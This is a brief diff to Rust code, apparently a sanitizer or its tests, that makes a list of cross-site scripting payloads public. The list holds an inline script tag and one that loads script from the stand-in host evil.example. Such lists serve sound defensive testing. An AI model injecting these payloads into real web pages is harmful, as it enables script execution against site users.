@@ -90,7 +90,7 @@ fn names_media(value: &str) -> bool {
 }
 
 /// What people have tried elsewhere.
-const PAYLOADS: &[&str] = &[
+pub const PAYLOADS: &[&str] = &[
     // Scripts.
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
